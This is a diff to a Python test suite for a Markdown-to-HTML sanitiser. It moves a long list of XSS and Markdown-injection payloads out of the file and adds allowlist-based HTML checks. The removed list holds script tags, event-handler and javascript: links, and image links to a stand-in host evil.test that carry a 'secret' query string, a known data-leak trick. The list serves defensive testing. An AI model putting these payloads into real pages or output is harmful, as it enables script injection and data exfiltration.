@@ -11,86 +11,10 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
+from support.html import elements_of
+from support.payloads import PAYLOADS
 
-from airflow_agentic.shown import fenced, safe_markdown
-
-#: What has been used to get script, requests or misleading links through Markdown.
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.test/x.js></ScRiPt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=http://evil.test/?q=secret>",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<body onload=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<form action=http://evil.test><button>Publish</button></form>",
-    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
-    "<link rel=stylesheet href=http://evil.test/x.css>",
-    "<style>@import 'http://evil.test/x.css'</style>",
-    "<base href=http://evil.test/>",
-    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
-    "<div\nonclick=alert(1)\n>\n\nx\n\n</div>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?php <img src=x onerror=alert(1)> ?>",
-    "</code></pre><script>alert(1)</script>",
-    "![x](http://evil.test/?q=secret)",
-    "![x](https://evil.test/p.png 'title')",
-    "![x](//evil.test/p.png)",
-    "![x](/auth/logout)",
-    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
-    "![x][r]\n\n[r]: http://evil.test/p.png",
-    "![r]\n\n[r]: <http://evil.test/p.png> 'title'",
-    "![r][]\n\n[r]:\nhttp://evil.test/p.png",
-    "[![x](http://evil.test/p.png)](http://evil.test)",
-    "!\\[x](http://evil.test) \\![x](http://evil.test) \\\\![x](http://evil.test/p.png)",
-    "&#33;[x](http://evil.test/p.png) !&#91;x](http://evil.test/p.png) &excl;&lsqb;x](http://evil.test/p.png)",
-    "!\u200b[x](http://evil.test/p.png) !\t[x](http://evil.test/p.png)",
-    "`a` ![x](http://evil.test/p.png) `b`",
-    "`` ` ``![x](http://evil.test/p.png)` `",
-    "| `a | ![x](http://evil.test/p.png) ` |\n| --- | --- |\n| `b | ![x](http://evil.test/p.png) ` |",
-    "| a |\n| --- |\n| `\\|` ![x](http://evil.test/p.png) |",
-    "```\n```\n![x](http://evil.test/p.png)",
-    "~~~\n![x](http://evil.test/p.png)\n~~~ x\n~~~\n![x](http://evil.test/p.png)",
-    "- ```\n![x](http://evil.test/p.png)",
-    "> ```\n![x](http://evil.test/p.png)",
-    "1. a\n\n       ![x](http://evil.test/p.png)\n\n   ![x](http://evil.test/p.png)",
-    "[x](http://a.test 'a\\\\') ![x](http://evil.test/p.png) ')",
-    '[x](http://a.test "a\\\\" ![x](http://evil.test/p.png)")',
-    "[x](http://a.test 'a\" onmouseover=alert(1) \"')",
-    "[x](<http://a.test/)![x](http://evil.test/p.png)>)",
-    "[x](http://a.test/\\)![x](http://evil.test/p.png))",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#x0A;script:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x]( javascript:alert(1))",
-    "[x](\u0001javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:http://evil.test/1)",
-    "[x](/dags/a/trigger)",
-    "[x](//evil.test)",
-    "[x](?run=1)",
-    "[x][r]\n\n[r]: javascript:alert(1)",
-    "[*x*](javascript:alert(1)) [`x`](javascript:alert(1))",
-    "<javascript:alert(1)>",
-    '<http://a.test/"onmouseover=alert(1)>',
-    "[^1]\n\n[^1]: ![x](http://evil.test/p.png)",
-    "x\n===\n\n![x](http://evil.test/p.png)\n---",
-    "\\",
-    "\0![x](http://evil.test/p.png)",
-    "\r![x](http://evil.test/p.png)\r\n",
-    "\u2028![x](http://evil.test/p.png)",
-]
+from airflow_agentic.shown import ELEMENTS, fenced, safe_html, safe_markdown
 
 
 class _Shown(HTMLParser):
@@ -149,6 +73,7 @@ def test_there_are_enough_payloads() -> None:
 _PIECES = [*PAYLOADS, *"![]()<>`~*_#|\\\"'&;:-+.=\n\t ", "\n\n", "    ", "> ", "- ", "1. ", "```", "http://a.test", "x"]
 
 
+@example("<<script>alert(1)</script>")
 @example("![`](http://evil.test)`](http://evil.test)")
 @given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join))
 def test_nothing_gets_through_however_it_is_put_together(text: str) -> None:
@@ -224,3 +149,38 @@ def test_nothing_in_a_text_ends_its_fence() -> None:
     assert fenced("a", "yaml") == "```yaml\na\n```"
     assert fenced("```\n`````\n", "yaml") == "``````yaml\n```\n`````\n``````"
     assert re.fullmatch(r"`{7}\n`{6}\n`{7}", fenced("`" * 6, ""))
+
+
+def check_html(text: str) -> str:
+    """What is shown of a text as HTML, after a look at it as a browser would take it."""
+    written = safe_html(text)
+    for element in elements_of(written, fragment=True):
+        assert element.name in ELEMENTS, written
+        assert element.attributes.keys() <= {"href", "rel", "start"}, written
+        if element.name == "a":
+            assert urlsplit(element.attributes["href"]).scheme in ("http", "https", "mailto"), written
+            assert element.attributes["rel"] == "noopener noreferrer"
+    return written
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("around", ["{}", "# a {} b", "> - {}", "| a |\n| --- |\n| {} |", "```\nx\n```\n{}\n```"])
+def test_nothing_gets_through_as_html(payload: str, around: str) -> None:
+    check_html(around.format(payload))
+
+
+@given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join) | st.text(max_size=80))
+def test_any_text_is_harmless_html(text: str) -> None:
+    check_html(text)
+
+
+def test_formatting_becomes_html() -> None:
+    assert (
+        safe_html("**a** `b`\n\n| c |\n| --- |\n| d |").split()
+        == (
+            "<p><strong>a</strong> <code>b</code></p> <table> <thead> <tr> <th>c</th> </tr> </thead> "
+            "<tbody> <tr> <td>d</td> </tr> </tbody> </table>"
+        ).split()
+    )
+    assert safe_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"
+    assert safe_html("x" * 50_001).startswith("<pre>x")
